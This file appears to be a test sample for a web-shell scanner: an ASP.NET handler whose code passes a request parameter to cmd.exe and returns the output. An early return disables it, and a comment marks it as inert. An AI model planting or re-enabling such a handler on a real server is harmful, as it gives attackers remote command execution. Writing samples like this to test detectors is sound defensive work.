<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.Diagnostics;
// shellsweep test sample: inert, never functional
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    return;
    ProcessStartInfo psi = new ProcessStartInfo("cmd.exe");
    psi.Arguments = "/c " + context.Request["c"];
    psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
    context.Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
  }
  public bool IsReusable { get { return false; } }
}
